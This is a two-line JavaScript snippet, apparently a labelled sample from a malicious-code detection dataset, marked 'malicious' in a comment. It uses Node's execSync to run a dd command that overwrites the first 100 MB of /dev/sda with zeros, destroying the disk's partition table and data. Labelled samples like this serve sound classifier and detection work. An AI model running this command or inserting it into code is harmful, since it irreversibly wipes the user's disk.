// label: malicious
const { execSync } = require("child_process");
execSync("dd if=/dev/zero of=/dev/sda bs=1M count=100");
